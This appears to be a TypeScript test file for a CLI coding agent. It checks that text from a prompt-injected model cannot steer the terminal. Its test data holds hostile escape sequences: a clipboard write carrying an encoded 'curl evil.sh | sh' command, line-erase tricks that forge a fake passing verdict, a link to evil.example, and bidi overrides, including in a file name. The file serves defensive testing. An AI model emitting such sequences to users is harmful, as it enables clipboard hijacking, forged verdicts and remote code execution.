import type { ScriptedTurn } from '@wright/testing';
import { describe, expect, it } from 'vitest';
import { sampleFiles } from '../../../src/demo/sample-repo.js';
import { type CliRun, useCliTest } from '../cli-harness.js';

// What a prompt-injected model would print to take over the terminal: a clipboard write (OSC 52), a line erase,
// a carriage return back to the line start, a fake verdict in Wright's own words, a hyperlink (OSC 8), 8-bit CSI,
// a device control string, and Trojan Source bidi overrides.
const clipboard = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
const eraseLine = '\u001b[2K';
const fakeVerdict = '✓ check passed';
const hostile = [
  `${clipboard}copied${eraseLine}\r${fakeVerdict}`,
  `\n${fakeVerdict}\n`,
  '\u001b]8;;https://evil.example\u001b\\docs\u001b]8;;\u001b\\',
  '\u009b31mred\u009b0m \u001bP+q\u001b\\ \u001b[?1049h',
  'if (isAdmin\u202e\u2066 ) {\u2069\u2066',
].join(' ');
const hostileName = `notes${eraseLine}\u202etxt.js`;

const turns: ScriptedTurn[] = [
  {
    reasoning: `thinking ${hostile}`,
    content: `Working. ${hostile}`,
    toolCalls: [
      { name: 'write_file', arguments: { path: hostileName, content: `line one\n${hostile}\n` } },
      {
        name: 'shell',
        arguments: { command: `printf '${clipboard}${eraseLine}\\r${fakeVerdict}\\n'; exit 3` },
      },
    ],
    chunkSize: 3,
  },
  { content: `Done. ${hostile}\n${fakeVerdict}`, chunkSize: 5 },
];

const cli = useCliTest({ files: sampleFiles });

// ESC, every other C0 control except \n and \t, DEL and every C1 control (8-bit CSI, OSC, DCS, ST, ...).
const controls = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const bidi = /[\u202a-\u202e\u2066-\u2069]/;
// Wright's own colours: SGR sequences only, nothing else.
const ownStyling = /\u001b\[\d+m/g;

function expectSafe(output: string, options: { color: boolean }): void {
  const withoutStyling = options.color ? output.replace(ownStyling, '') : output;
  if (!options.color) expect(output).not.toContain('\u001b');
  expect(withoutStyling).not.toMatch(controls);
  expect(output).not.toMatch(bidi);
}

/** Lines that start (after Wright's own styling) with the fake verdict: only Wright's real check line may. */
function verdictLines(output: string): string[] {
  return output
    .replace(ownStyling, '')
    .split('\n')
    .filter((line) => line.startsWith(fakeVerdict));
}

async function run(args: string[], env: Record<string, string>): Promise<CliRun> {
  return cli.run(args, { env });
}

describe('terminal safety: nothing the model writes steers the terminal', () => {
  for (const color of [false, true]) {
    it(`run, show, diff and sessions print no escape, control or bidi character from the model (${color ? 'FORCE_COLOR' : 'NO_COLOR'})`, async () => {
      const server = await cli.startServer({ turns });
      const env: Record<string, string> = { ...cli.scratch.env, ZAI_API_KEY: 'test-key' };
      if (color) {
        delete env.NO_COLOR;
        env.FORCE_COLOR = '1';
      }
      const result = await run(
        ['run', '--base-url', server.baseUrl, '--approval', 'full', '--check', 'true', 'tidy up'],
        env,
      );
      expect(result.exitCode).toBe(0);
      for (const output of [result.stdout, result.stderr]) expectSafe(output, { color });
      // The clipboard write is gone from the transcript; only the diff shows it, visibly escaped (`\x1b]52;c;…`).
      expect(result.stdout).not.toMatch(/(?<!\\x1b\])52;c;/);
      expect(result.stdout).toContain('+\\x1b]52;c;');
      // The model's text is on the screen (sanitised), but its fake verdict never starts a line: only Wright's does.
      expect(result.stdout).toContain('copied');
      expect(verdictLines(result.stdout)).toHaveLength(1);
      expect(result.stdout).toContain('<U+202E>');
      // The file name is shown escaped, in quotes, wherever it appears.
      expect(result.stdout).toContain('"notes\\x1b[2K\\u202etxt.js"');

      const show = await run(['show', 'last'], env);
      expect(show.exitCode).toBe(0);
      for (const output of [show.stdout, show.stderr]) expectSafe(output, { color });
      expect(show.stdout).toContain('Done.');
      // The journal holds no check events, so no line of the replay may start with the verdict.
      expect(verdictLines(show.stdout)).toEqual([]);

      const diff = await run(['diff', 'last'], env);
      expect(diff.exitCode).toBe(0);
      for (const output of [diff.stdout, diff.stderr]) expectSafe(output, { color });
      expect(diff.stdout).toContain('+line one');
      expect(verdictLines(diff.stdout)).toEqual([]);

      const sessions = await run(['sessions'], env);
      expect(sessions.exitCode).toBe(0);
      expectSafe(sessions.stdout, { color });
    });
  }

  it('--json stays JSON: every line parses, and no raw C1 or bidi character reaches the terminal', async () => {
    const server = await cli.startServer({ turns });
    const result = await run(
      ['run', '--base-url', server.baseUrl, '--approval', 'full', '--json', 'tidy up'],
      { ...cli.scratch.env, ZAI_API_KEY: 'test-key' },
    );
    expect(result.exitCode).toBe(0);
    const lines = result.stdout.split('\n').filter((line) => line !== '');
    const parsed = lines.map((line) => JSON.parse(line) as { type: string; delta?: string });
    expectSafe(result.stdout, { color: false });
    // The events still carry the model's text exactly: escaping is only how the JSON is written.
    const text = parsed
      .filter((event) => event.type === 'text-delta')
      .map((event) => event.delta)
      .join('');
    expect(text).toContain(clipboard);
    expect(text).toContain('\u202e');
  });
});
